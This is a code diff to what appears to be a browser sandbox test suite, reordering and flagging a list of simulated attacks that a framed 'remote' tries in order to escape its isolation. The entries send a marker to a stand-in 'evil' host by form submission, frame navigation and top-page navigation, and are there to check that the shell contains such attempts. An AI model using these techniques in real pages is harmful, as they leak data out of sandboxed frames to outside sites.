@@ -14,14 +14,16 @@ interface AttackTools {
   readonly otherScript: string;
 }
 
-interface Attack {
+export interface Attack {
   readonly name: string;
   /** Runs in the frame. Returns true when it reached its goal, unless `seenAs` tells that. */
   readonly run: (tools: AttackTools) => unknown;
   /** `request`: the attack reaches its goal when the other site gets its request. `dialog`: when a dialog opens. */
   readonly seenAs?: 'request' | 'dialog';
-  /** The frame or the page can be gone after the attack. */
+  /** The frame or the page can be gone after the attack, or another page can be open. */
   readonly leaves?: true;
+  /** The browser shows its error page in the frame of the remote, so the shell shows the page of a failed remote. */
+  readonly endsFrame?: true;
   /** A remote on its own host may do it, because the origin has only its own data. */
   readonly isOwnData?: true;
 }
@@ -108,22 +110,6 @@ export const ATTACKS: readonly Attack[] = [
     leaves: true,
   },
   {
-    name: 'sends a form to another site',
-    run: ({ evil, mark }) => {
-      const form = Object.assign(document.createElement('form'), { action: `${evil}/${mark}`, method: 'post' });
-      document.body.append(form);
-      form.submit();
-    },
-    seenAs: 'request',
-    leaves: true,
-  },
-  {
-    name: 'navigates its frame to another site',
-    run: ({ evil, mark }) => void (location.href = `${evil}/${mark}`),
-    seenAs: 'request',
-    leaves: true,
-  },
-  {
     name: 'navigates the page to another site',
     run: ({ evil, mark }) => void (top!.location.href = `${evil}/${mark}`),
     seenAs: 'request',
@@ -138,6 +124,24 @@ export const ATTACKS: readonly Attack[] = [
     },
     seenAs: 'request',
     leaves: true,
+  },
+  {
+    name: 'sends a form to another site',
+    run: ({ evil, mark }) => {
+      const form = Object.assign(document.createElement('form'), { action: `${evil}/${mark}`, method: 'post' });
+      document.body.append(form);
+      form.submit();
+    },
+    seenAs: 'request',
+    leaves: true,
+    endsFrame: true,
+  },
+  {
+    name: 'navigates its frame to another site',
+    run: ({ evil, mark }) => void (location.href = `${evil}/${mark}`),
+    seenAs: 'request',
+    leaves: true,
+    endsFrame: true,
   },
 ];
 
